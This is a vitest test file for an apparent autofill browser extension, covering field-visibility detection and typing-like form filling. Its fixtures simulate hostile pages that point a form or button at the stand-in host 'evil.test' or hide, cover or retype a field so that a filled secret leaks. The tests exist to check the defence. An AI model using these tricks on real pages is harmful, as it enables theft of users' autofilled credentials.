/** Visibility and filling in a real page. What a hostile page tries against the whole extension is in tests/hostile. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { inLab, openLab, type OpenLab } from "./lab.ts";

let lab: OpenLab;
beforeAll(async () => {
  lab = await openLab();
});
afterAll(() => lab.close());

const FIELD = `<input id="f" name="f" style="width:200px;height:24px">`;
const around = (style: string): string => `<div style="${style}">${FIELD}</div>`;

describe("what the user sees", () => {
  test.each([
    ["plain", FIELD],
    ["translucent", around("opacity:.6")],
    ["under a label that floats over it", `<div style="position:relative">${FIELD}<label for="f" style="position:absolute;inset:0">Email</label></div>`],
    ["below the fold", `<div style="height:3000px"></div>${FIELD}<div style="height:3000px"></div>`],
    ["in a box that scrolls", `<div style="height:100px;overflow:auto"><div style="height:400px"></div>${FIELD}</div>`],
    ["scaled a little", around("transform:scale(.9)")],
    ["in a dialog", `<dialog open>${FIELD}</dialog>`],
    ["small screen-reader text beside it", `<span style="position:absolute;clip:rect(0,0,0,0)">x</span>${FIELD}`],
  ])("sees a field %s", async (_what, html) => {
    const page = await lab.load(html);
    expect(await inLab(page, `lab.seen("#f")`)).toBe(true);
  });

  test.each([
    ["display:none", around("display:none")],
    ["visibility:hidden", around("visibility:hidden")],
    ["opacity:0", around("opacity:0")],
    ["opacity in a chain", `<div style="opacity:.3"><div style="opacity:.3">${FIELD}</div></div>`],
    ["off the left edge", around("position:absolute;left:-9999px")],
    ["off the top", around("position:absolute;top:-500px")],
    ["1 px", `<input id="f" style="width:1px;height:1px;padding:0;border:0">`],
    ["scaled to nothing", around("transform:scale(.01)")],
    ["clip-path", around("clip-path:inset(50%)")],
    ["clip", around("position:absolute;clip:rect(0px,0px,0px,0px)")],
    ["a box of no height", around("height:0;overflow:hidden")],
    ["a box that shows 1 px", around("height:1px;width:1px;overflow:hidden")],
    ["content-visibility", `<div style="content-visibility:hidden">${FIELD}</div>`],
    ["inert", `<div inert>${FIELD}</div>`],
    ["covered by a box", `<div style="position:relative">${FIELD}<div style="position:absolute;inset:0;background:#fff"></div></div>`],
    ["covered below the fold", `<div style="height:3000px"></div><div style="position:relative">${FIELD}<p style="position:absolute;inset:0;margin:0;background:#fff">x</p></div><div style="height:3000px"></div>`],
    ["covered by another field", `<div style="position:relative">${FIELD}<input style="position:absolute;inset:0;width:100%;height:100%"></div>`],
    ["detached into a closed details", `<details><summary>s</summary>${FIELD}</details>`],
  ])("doesn't see a field: %s", async (_what, html) => {
    const page = await lab.load(html);
    expect(await inLab(page, `lab.seen("#f")`)).toBe(false);
  });

  test("looking below the fold leaves the page where it was", async () => {
    const page = await lab.load(`<div style="height:3000px"></div>${FIELD}<div style="height:3000px"></div>`);
    await page.evaluate(() => scrollTo(0, 120));
    await inLab(page, `lab.seen("#f")`);
    expect(await page.evaluate(() => scrollY)).toBe(120);
  });
});

const FORM = `<form action="/a"><input id="u"><input id="p" type="password" maxlength="12"><input id="p2" type="password"><select id="c"><option value="">–</option><option value="de">Germany</option><option value="fr">France</option></select><input id="s" type="checkbox"><button>Sign up</button></form>`;

describe("filling", () => {
  test("writes as typing would arrive, respects maxlength and tells what was kept", async () => {
    const page = await lab.load(`${FORM}<script>var heard=[]; for (const n of ["focusin","keydown","beforeinput","input","keyup","change","focusout"])
      document.addEventListener(n, e => { if (e.target.id === "u") heard.push(e.type + (e.data ? ":" + e.data : "")); });</script>`);
    await page.bringToFront();
    const outcomes = await inLab(page, `(lab.targets(["#u","#p","#p2","#c"]), lab.fill(["me@acme.example","sixteen-letters!","sixteen-letters!","France"], ["email", "name", "name", "country"]))`);
    expect(outcomes).toEqual([
      { field: 0, written: true },
      { field: 1, written: true, kept: "sixteen-lett" },
      { field: 2, written: true },
      { field: 3, written: true },
    ]);
    expect(await page.evaluate("[u.value, p.value, c.value, s.checked]")).toEqual(["me@acme.example", "sixteen-lett", "fr", false]);
    expect(await page.evaluate("heard")).toEqual(["focusin", "keydown", "beforeinput:me@acme.example", "input:me@acme.example", "keyup", "change", "focusout"]);
  });

  test("leaves the focus where it is when nobody pressed for it, and the page hears the same", async () => {
    const page = await lab.load(`${FORM}<script>var heard=[]; for (const n of ["focusin","input","change","focusout"])
      document.addEventListener(n, e => { if (e.target.id === "u" || e.target.id === "c") heard.push(e.target.id + " " + e.type); });</script>`);
    await page.bringToFront();
    await page.type("#p", "typed");
    await inLab(page, `(lab.targets(["#u","#p","#c"]), lab.fill(["me","another","France"], ["name", "new-password", "country"], true))`);
    expect(await page.evaluate("[u.value, p.value, c.value, document.activeElement.id]")).toEqual(["me", "typed", "fr", "p"]);
    expect(await page.evaluate("heard")).toEqual(["u focusin", "u input", "u change", "u focusout", "c focusin", "c input", "c change", "c focusout"]);
  });

  test("tells what the page made of the value", async () => {
    const page = await lab.load(`${FORM}<script>u.addEventListener("input", () => setTimeout(() => { u.value = u.value.toUpperCase(); }));</script>`);
    expect(await inLab(page, `(lab.targets(["#u"]), lab.fill(["me"]))`)).toEqual([{ field: 0, written: true, kept: "ME" }]);
  });

  test("goes past a setter that the page put on the element, as React does", async () => {
    const page = await lab.load(`${FORM}<script>
      const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); let tracked = ""; var changes = [];
      Object.defineProperty(u, "value", { configurable: true, get() { return own.get.call(this); }, set(v) { tracked = v; own.set.call(this, v); } });
      document.addEventListener("input", () => { if (own.get.call(u) !== tracked) { tracked = own.get.call(u); changes.push(tracked); } });</script>`);
    await inLab(page, `(lab.targets(["#u"]), lab.fill(["me@acme.example"]))`);
    expect(await page.evaluate("changes")).toEqual(["me@acme.example"]);
  });

  test.each([
    ["the field was replaced by a copy", `u.replaceWith(u.cloneNode())`],
    ["the form now posts elsewhere", `document.forms[0].action = "https://evil.test/"`],
    ["a button now posts elsewhere", `document.querySelector("button").setAttribute("formaction", "https://evil.test/")`],
    ["the field moved to another form", `document.body.append(Object.assign(document.createElement("form"), {id: "z"})); z.append(u)`],
    ["the field was hidden", `u.style.opacity = "0"`],
    ["the field was moved off-screen", `u.style.cssText = "position:absolute;left:-900px"`],
    ["the field was covered", `document.body.insertAdjacentHTML("beforeend", "<div style='position:fixed;inset:0;background:red'></div>")`],
    ["the field became a hidden one", `u.type = "hidden"`],
    ["the field was disabled", `u.disabled = true`],
    ["the field was made read-only", `u.readOnly = true`],
  ])("writes nothing when %s", async (_what, swap) => {
    const page = await lab.load(FORM);
    const outcomes = await inLab(page, `(lab.targets(["#u"]), ${`(() => { ${swap}; })()`}, lab.fill(["secret"]))`);
    expect(outcomes).toEqual([{ field: 0, written: false }]);
    expect(await page.evaluate(() => [...document.querySelectorAll("input")].some(({ value }) => value === "secret"))).toBe(false);
  });

  test("a password field that became something else than text gets nothing, a revealed one does", async () => {
    const page = await lab.load(FORM);
    expect(await inLab(page, `(lab.targets(["#p2"]), p2.type = "text", lab.fill(["secret"]))`)).toEqual([{ field: 0, written: true }]);
    const again = await lab.load(FORM);
    expect(await inLab(again, `(lab.targets(["#p2"]), p2.type = "search", lab.fill(["secret"]))`)).toEqual([{ field: 0, written: false }]);
  });

  test("an option that isn't there is not chosen", async () => {
    const page = await lab.load(FORM);
    expect(await inLab(page, `(lab.targets(["#c"]), lab.fill(["Atlantis"]))`)).toEqual([{ field: 0, written: false }]);
  });
});
